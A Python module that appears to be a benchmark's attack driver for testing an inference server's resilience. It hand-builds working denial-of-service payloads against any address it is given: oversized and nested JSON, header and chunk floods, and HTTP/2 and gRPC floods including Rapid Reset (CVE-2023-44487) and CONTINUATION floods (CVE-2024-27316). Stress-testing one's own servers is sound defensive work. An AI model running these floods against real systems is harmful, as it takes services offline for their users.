"""What one hostile connection can send, each a process of its own: `python -m bench.attacks NAME ADDRESS`.

HTTP/1.1 and HTTP/2 are written by hand: libraries would not send most of this.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

BODY = 4 << 20
_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_WHOLE_WINDOW = struct.pack(">I", (1 << 31) - 1 - 65_535)


def _post(body: bytes) -> bytes:
    return _HEAD + b"content-length: %d\r\n\r\n" % len(body) + body


def _many(one: bytes, count: int = BODY) -> bytes:
    return one * (count // len(one) - 8)


_MESSAGE = b'{"role":"user","content":[{"type":"text","text":"' + b"\\u00e9" * 160 + b'"}]},'

HTTP: dict[str, Callable[[], bytes]] = {
    "unknown_fields": lambda: _post(b"{" + b",".join(b'"%d":0' % number for number in range(380_000)) + b"}"),
    "small_values": lambda: _post(b'{"messages":[' + _many(b"[],") + b"[]]}"),
    "deep_values": lambda: _post(b'{"messages":[' + _many(b"[" * 150 + b"]" * 150 + b",") + b"[]]}"),
    "as_many_values_as_go": lambda: _post(
        b'{"model":"demo","messages":[' + _many(_MESSAGE) + _MESSAGE[:-1] + b"]}"
    ),
    "long_numbers": lambda: _post(b'{"stop":[' + _many(b"9" * 4000 + b",") + b"1]}"),
    "names_of_controls": lambda: _post(
        b'{"model":"demo","messages":[{"role":"user","content":"' + _many(b"<") + b'"}]}'
    ),
    "escapes": lambda: _post(b'{"prompt":"' + _many(b"\\n\\\\") + b'"}'),
    "headers": lambda: _HEAD + b"a:\r\n" * 60_000 + b"\r\n",
    "chunks": lambda: _HEAD + b"transfer-encoding: chunked\r\n\r\n" + _many(b"1\r\n{\r\n"),
    "pipelined": lambda: b"GET /health/live HTTP/1.1\r\nhost: localhost\r\n\r\n" * 20_000,
}
"""What is sent at once, by name."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _fields(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The head of a gRPC call in HPACK (RFC 7541): nothing indexed that is not in the static table."""
    literal = b"".join(
        b"\x00" + bytes([len(name)]) + name + _length(value) + value
        for name, value in ((b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)
    )
    return b"\x83\x87\x04" + _length(path) + path + b"\x01\x09localhost" + literal


def _length(value: bytes) -> bytes:
    """The length of a string in HPACK: 7 bits, and the rest as a varint (RFC 7541 section 5.1)."""
    return bytes([len(value)]) if len(value) < 127 else b"\x7f" + _varint(len(value) - 127)


def _varint(number: int) -> bytes:
    out = b""
    while number >= 128:
        out, number = out + bytes([number % 128 + 128]), number // 128
    return out + bytes([number])


def _call(stream: int, path: bytes, message: bytes = b"") -> bytes:
    whole = b"\x00" + struct.pack(">I", len(message)) + message
    parts = [whole[at : at + 16_384] for at in range(0, len(whole), 16_384)]
    return frame(_HEADERS, 4, stream, _fields(path)) + b"".join(
        frame(_DATA, part is parts[-1], stream, part) for part in parts
    )


_CHECK = b"/grpc.health.v1.Health/Check"
_GENERATE = b"/sealring.v1.Inference/Generate"


def pings() -> Iterator[bytes]:
    while True:
        yield frame(_PING, 0, 0, b"12345678") * 500


def settings() -> Iterator[bytes]:
    while True:
        yield frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500


def _on_streams(one: Callable[[int], bytes]) -> Iterator[bytes]:
    """What `one` makes of a stream's number, for one stream after the other."""
    for first in range(1, 1 << 31, 200):
        yield b"".join(map(one, range(first, first + 200, 2)))


def resets() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    back = b"\0\0\0\x08"
    return _on_streams(
        lambda stream: frame(_HEADERS, 4, stream, _fields(_CHECK)) + frame(_RESET, 0, stream, back)
    )


def calls() -> Iterator[bytes]:
    return _on_streams(lambda stream: _call(stream, _CHECK))


def open_streams() -> Iterator[bytes]:
    """Calls that never say what they want."""
    return _on_streams(lambda stream: frame(_HEADERS, 4, stream, _fields(_GENERATE)))


def continuations() -> Iterator[bytes]:
    """A head that does not end (CVE-2024-27316)."""
    yield frame(_HEADERS, 0, 1, _fields(_CHECK))
    while True:
        yield frame(_CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000)


def no_text() -> Iterator[bytes]:
    """A head without end, of headers that are not UTF-8, and calls of paths that are not."""
    yield frame(_HEADERS, 4, 1, _fields(b"/\xff/Check")) + frame(_HEADERS, 0, 3, _fields(_CHECK))
    while True:
        yield frame(_CONTINUATION, 0, 3, b"\x00\x01a\x01\xff" * 3000)


def unknown_frames() -> Iterator[bytes]:
    """Frames of no known kind, which are to be ignored, and now and then a call."""
    for stream in range(1, 1 << 31, 2):
        yield _call(stream, _CHECK) + frame(0xFA, 0, 0, bytes(16_000)) * 500


def empty_messages() -> Iterator[bytes]:
    """Requests whose chats are of millions of empty messages."""
    for stream in range(1, 41, 2):
        chat = b"\x0a\x00" * (3 << 20)
        prompt = b"\x0a" + _varint(len(chat)) + chat
        envelope = b"\x0a" + _varint(len(prompt)) + prompt
        yield _call(stream, _GENERATE, b"\x1a" + _varint(len(envelope)) + envelope)


GRPC: dict[str, Callable[[], Iterator[bytes]]] = {
    one.__name__: one
    for one in (
        *(pings, settings, resets, calls, open_streams, continuations, no_text, unknown_frames),
        empty_messages,
    )
}


def connect(address: str, *, tls: Path | None = None) -> socket.socket:
    """A connection to the address; with `tls`, the state folder of a member or an operator, as that one."""
    host, _, port = address.rpartition(":")
    plain = socket.create_connection((host, int(port)), timeout=10)
    if tls is None:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(tls / "tls.pem", tls / "tls.key")
    return context.wrap_socket(plain)


def http(name: str, address: str, seconds: float) -> int:
    """Sends it over and over, one connection at a time, until the time is over. Returns how often it went."""
    data, sent, end = HTTP[name](), 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(1 << 16):
                pass
        sent += 1
    return sent


def grpc(name: str, address: str, seconds: float, *, tls: Path | None) -> int:
    """Floods one connection until the time is over; connects anew where it is cut. Returns connections."""
    end, connections = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        connections += 1
        with contextlib.suppress(OSError), connect(address, tls=tls) as connection:
            connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b"") + frame(_WINDOW, 0, 0, _WHOLE_WINDOW))
            connection.settimeout(0.02)
            for part in GRPC[name]():
                _send(connection, part, end)
                if time.monotonic() > end:
                    break
    return connections


def _send(connection: socket.socket, data: bytes, end: float) -> None:
    """Sends it all, and reads what comes so that the other end is not held up. Raises OSError once cut."""
    left = memoryview(data)
    while left and time.monotonic() < end:
        with contextlib.suppress(TimeoutError, ssl.SSLWantWriteError):
            left = left[connection.send(left) :]
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
            while received := connection.recv(1 << 18):
                del received
                continue
            raise ConnectionResetError
        connection.settimeout(0.02)


def main() -> None:
    name, address, seconds, *tls = sys.argv[1:]
    if name in HTTP:
        print(http(name, address, float(seconds)))
    else:
        print(grpc(name, address, float(seconds), tls=Path(tls[0]) if tls else None))


if __name__ == "__main__":
    main()
